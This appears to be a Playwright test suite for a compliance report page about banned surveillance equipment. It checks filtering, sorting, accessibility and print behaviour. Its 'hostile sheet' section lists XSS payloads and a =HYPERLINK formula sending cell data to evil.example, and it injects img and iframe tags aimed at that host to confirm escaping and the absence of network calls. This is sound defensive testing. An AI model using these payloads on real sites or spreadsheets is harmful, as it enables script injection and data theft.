// Does with the report what a reader does, and what a hostile sheet would like it to do.

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { hostile, launch, open, sample, violations, withBaseline } from "./browser.mjs";

let browser, sheet;
before(async () => { browser = await launch(); sheet = sample(); });
after(() => browser.close());

const rows = (page) => page.locator("#list > tr:not(.detail)");
const status = (page) => page.locator("#status").textContent();

describe("a reader", () => {
  it("filters, and the address keeps the filter", async () => {
    const { page, faults, url, close } = await open(browser, sheet);
    const all = await status(page);
    assert.match(all, /^1 to 50 of \d+ findings, \d+ rows$/);
    await page.getByRole("button", { name: /^review/ }).click();
    assert.equal(await page.getByRole("button", { name: /^review/ }).getAttribute("aria-pressed"), "true");
    const verdicts = await rows(page).locator("td:first-child").allTextContents();
    assert.ok(verdicts.length > 3 && verdicts.every((verdict) => verdict === "review"), verdicts.join());
    await page.getByLabel("Maker").selectOption("Hikvision");
    const kept = page.url();
    assert.match(kept, /#v=review&maker=Hikvision$/);
    const filtered = await status(page);
    await page.goto("about:blank");
    await page.goto(kept);
    assert.equal(await status(page), filtered);
    assert.equal(await page.getByLabel("Maker").inputValue(), "Hikvision");
    await page.getByRole("button", { name: "Show all" }).click();
    assert.equal(await status(page), all);
    assert.ok(!page.url().includes("review") && page.url().startsWith(url));
    assert.deepEqual(faults, []);
    await close();
  });

  it("searches for an asset number that no line shows", async () => {
    const { page, close } = await open(browser, sheet);
    await page.getByLabel("Search").fill("jf-01160 whitehall");
    await page.waitForFunction(() => document.getElementById("status").textContent.startsWith("1 to 1 of 1 finding,"));
    assert.match(page.url(), /q=jf-01160/);
    await close();
  });

  it("filters by site and by a provision of law, of which the verdict is then that of the provision", async () => {
    const { page, close } = await open(browser, sheet, { hash: "#v=advisory&law=gb-sensitive-sites" });
    const count = Number((await status(page)).match(/of (\d+) finding/)[1]);
    assert.ok(count > 0);
    await page.locator("#filters").getByLabel("Site").selectOption("Leeds Office");
    assert.ok(Number((await status(page)).match(/of (\d+) finding/)[1]) <= count);
    const sites = await rows(page).locator("td[data-label=Site]").allTextContents();
    assert.ok(sites.every((site) => site.includes("Leeds Office")), sites.join());
    await close();
  });

  it("sorts by every column, both ways", async () => {
    const { page, close } = await open(browser, sheet);
    const column = async (label) => rows(page).locator(`td[data-label="${label}"]`).allTextContents();
    await page.locator("#table").getByRole("columnheader", { name: "Rows" }).getByRole("button").click();
    const counts = (await column("Rows")).map(Number);
    assert.deepEqual(counts, [...counts].sort((a, b) => b - a));
    for (const name of ["Goods", "Maker", "Site", "Law"]) {
      const head = page.locator("#table").getByRole("columnheader", { name });
      await head.getByRole("button").click();
      assert.equal(await head.getAttribute("aria-sort"), "ascending");
      const up = await column(name);
      await head.getByRole("button").click();
      assert.equal(await head.getAttribute("aria-sort"), "descending");
      assert.notDeepEqual(await column(name), up, name);
    }
    await close();
  });

  it("opens a finding with the keyboard, and sees evidence, law, sources and remedy", async () => {
    const { page, faults, close } = await open(browser, sheet, { hash: "#q=LNB8005" });
    const button = page.locator(".open").first();
    await button.focus();
    await page.keyboard.press("Enter");
    assert.equal(await button.getAttribute("aria-expanded"), "true");
    const card = page.locator(`#${await button.getAttribute("aria-controls")}`);
    const text = await card.textContent();
    for (const part of ["What to do", "Who made it", "speaks for and against", "What the law says", "FAR 52.204-25", "What is missing", "Where", "Lorex"]) assert.ok(text.includes(part), `${part} in ${text}`);
    assert.ok(await card.locator(".for li").count() > 0 && await card.locator(".against li").count() > 0);
    const links = await card.locator("a").evaluateAll((all) => all.map((link) => link.href));
    assert.ok(links.length > 3 && links.every((href) => /^https?:/.test(href)), links.join());
    await page.keyboard.press("Enter");
    assert.equal(await card.count(), 0);
    assert.deepEqual(faults, []);
    await close();
  });

  it("comes from a figure of the matrix to as many rows", async () => {
    const { page, close } = await open(browser, sheet);
    const cells = page.locator(".matrix td a");
    assert.ok(await cells.count() > 10);
    for (let at = 0; at < await cells.count(); at += 3) {
      const [figure] = (await cells.nth(at).textContent()).match(/\d+/);
      const href = await cells.nth(at).getAttribute("href");
      await page.evaluate((to) => { location.hash = to; }, href);
      await page.waitForFunction(() => document.getElementById("status").textContent);
      const found = (await status(page)).match(/, (\d+) row/);
      assert.ok(found && Number(found[1]) >= Number(figure), `${href}: ${figure} in ${await status(page)}`);
    }
    await close();
  });

  it("filters by what the baseline knows", async () => {
    const { page, faults, close } = await open(browser, withBaseline());
    const found = async () => Number((await status(page)).match(/of (\d+) finding/)[1]);
    const all = await found();
    await page.getByLabel("Baseline").selectOption("known");
    const known = await found();
    const sites = await rows(page).locator("td[data-label=Site]").allTextContents();
    assert.ok(known > 3 && sites.every((site) => site.includes("Arlington")), sites.join());
    await rows(page).first().getByRole("button").click();
    assert.match(await page.locator(".detail").first().textContent(), /Baseline: (known|\d+ of \d+ rows known)/);
    await page.getByLabel("Baseline").selectOption("new");
    assert.match(page.url(), /known=new/);
    const fresh = await found();
    assert.ok(fresh > 0 && fresh + known <= all, `${fresh} ${known} ${all}`);
    assert.deepEqual(faults, []);
    await close();
  });

  it("turns pages", async () => {
    const { page, close } = await open(browser, sheet);
    const first = await rows(page).first().textContent();
    await page.getByRole("button", { name: "Next" }).click();
    assert.match(page.url(), /page=2/);
    assert.notEqual(await rows(page).first().textContent(), first);
    await page.goBack().catch(() => {});
    await close();
  });

  it("chooses light or dark, and the choice lasts", async () => {
    const { page, close } = await open(browser, sheet, { colorScheme: "light" });
    const paper = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const light = await paper();
    await page.getByRole("button", { name: "Dark view" }).click();
    assert.notEqual(await paper(), light);
    await page.reload();
    assert.notEqual(await paper(), light);
    await close();
  });

  it("sees figures in the digits of the locale", async () => {
    const { page, close } = await open(browser, sheet, { locale: "ar-EG" });
    assert.match(await page.locator(".verdicts .count").first().textContent(), /[٠-٩]/u);
    await close();
  });

  it("prints all findings, whatever page of them is shown", async () => {
    const { page, close } = await open(browser, sheet);
    const count = Number((await status(page)).match(/of (\d+) finding/)[1]);
    const pdf = await page.pdf({ preferCSSPageSize: true });
    assert.ok(pdf.length > 50_000);
    await page.evaluate(() => dispatchEvent(new Event("beforeprint")));
    assert.equal(await rows(page).count(), count);
    await page.evaluate(() => dispatchEvent(new Event("afterprint")));
    assert.equal(await rows(page).count(), 50);
    await close();
  });

  it("reads the essential without scripts", async () => {
    const { page, close } = await open(browser, sheet, { javaScriptEnabled: false });
    const text = await page.locator("main").innerText();
    assert.match(text, /A rule in force forbids \d+ of 217 rows\./);
    for (const part of ["Every row is accounted for", "What must go first", "FAR 52.204-25", "Scripts are off", "Hikvision DS-2CD2147G2-SU"]) assert.ok(text.includes(part), part);
    assert.equal(await rows(page).count(), 50);
    await close();
  });

  for (const colorScheme of ["light", "dark"]) {
    for (const width of [1440, 768, 390]) {
      it(`meets no barrier at ${width} pixels in ${colorScheme} (axe-core), and no line runs off the page`, async () => {
        const { page, faults, close } = await open(browser, sheet, { colorScheme, viewport: { width, height: 900 }, bypassCSP: true });
        await page.locator(".open").nth(6).click();
        assert.deepEqual(await violations(page), []);
        assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > innerWidth), false);
        assert.deepEqual(faults, []);
        await close();
      });
    }
  }
});

describe("a hostile sheet", () => {
  const nasty = ["<script>window.hit=1</script>", "\"><img src=x onerror=\"window.hit=1\">", "</script><script>window.hit=1</script>", "<b onclick=window.hit=1>", "=HYPERLINK(\"http://evil.example/?\"&A1)", "javascript:window.hit=1", "<svg/onload=window.hit=1>", "<!--<script>"];

  for (const javaScriptEnabled of [true, false]) {
    it(`stays text ${javaScriptEnabled ? "in every card" : "without scripts"}`, async () => {
      const { page, faults, asked, url, close } = await open(browser, hostile(), { javaScriptEnabled });
      if (javaScriptEnabled) {
        const buttons = page.locator(".open");
        assert.ok(await buttons.count() >= 15);
        for (const button of await buttons.all()) { await button.click(); await button.hover(); }
        await page.locator("#filters").getByLabel("Site").selectOption({ index: 3 });
        assert.equal(await page.evaluate(() => window.hit), undefined);
      }
      const shown = (await page.locator("body").evaluate((body) => body.textContent)).replaceAll(/\s+/g, " ");
      for (const text of nasty) assert.ok(shown.includes(text), `${text} is shown as it stands`);
      // U+202E and the like would turn the order of what is read.
      assert.ok(!/[\u202a-\u202e\u2066-\u2069]/u.test(shown) && shown.includes("\\u{202e}"));
      const inside = await page.evaluate(() => {
        const all = [...document.querySelectorAll("*")];
        return {
          foreign: all.filter((one) => ["IMG", "IFRAME", "BASE", "OBJECT", "EMBED", "LINK", "TEXTAREA"].includes(one.tagName)).map((one) => one.outerHTML),
          scripts: document.scripts.length,
          handlers: all.filter((one) => [...one.attributes].some(({ name }) => name.startsWith("on") || name === "style")).map((one) => one.outerHTML),
          links: all.filter((one) => one.hasAttribute("href")).map((one) => one.getAttribute("href")).filter((href) => !/^(#|https?:\/\/)/.test(href) || href.includes("evil")).filter((href) => !href.startsWith("#")),
        };
      });
      assert.deepEqual(inside, { foreign: [], scripts: 2, handlers: [], links: [] });
      assert.deepEqual(asked, [url]);
      assert.deepEqual(faults, []);
      await close();
    });
  }

  it("cannot ask the network for anything even if it could write markup", async () => {
    const { page, asked, url, close } = await open(browser, hostile());
    await page.evaluate(() => { document.body.insertAdjacentHTML("beforeend", "<img src='http://evil.example/x.png'><iframe src='http://evil.example/'></iframe><a onclick='window.hit=1' id='bait'>x</a>"); });
    await page.evaluate(() => document.getElementById("bait").click());
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => window.hit), undefined);
    assert.deepEqual(asked, [url]);
    await close();
  });
});
